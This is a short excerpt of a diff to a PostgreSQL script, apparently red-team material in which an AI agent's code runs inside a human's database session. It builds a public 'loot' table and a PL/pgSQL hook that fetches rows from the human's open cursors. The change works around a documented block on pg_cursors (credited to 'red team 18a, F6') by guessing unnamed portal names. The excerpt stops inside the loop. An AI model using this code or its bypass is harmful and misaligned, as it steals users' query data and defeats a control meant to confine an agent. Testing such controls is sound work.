@@ -93,12 +93,15 @@ CREATE VIEW ssb.lo_where AS SELECT lo_tell64(0) AS pos;
 CREATE VIEW ssb.lo_gone AS SELECT lo_close(0) AS closed;
 GRANT SELECT ON ssb.lo_move, ssb.lo_where, ssb.lo_gone TO PUBLIC;
 -- a hook for the human's API that takes rows from every cursor it finds
+-- (pg_cursors, which shows the human's statements, is refused in the
+-- agent's code in a human's session since red team 18a, F6: the hook
+-- tries the names PostgreSQL gives unnamed cursors, a PL/pgSQL loop's)
 CREATE TABLE ssb.loot (t text);
 GRANT SELECT, INSERT ON ssb.loot TO PUBLIC;
 CREATE FUNCTION ssb.hook(id int) RETURNS int LANGUAGE plpgsql AS $$
 DECLARE c refcursor; r record; nm text;
 BEGIN
-    FOR nm IN SELECT name FROM pg_cursors WHERE name <> '' LOOP
+    FOR nm IN SELECT '<unnamed portal ' || i || '>' FROM generate_series(1, 100) i LOOP
         BEGIN
             c := nm;
             FETCH c INTO r;
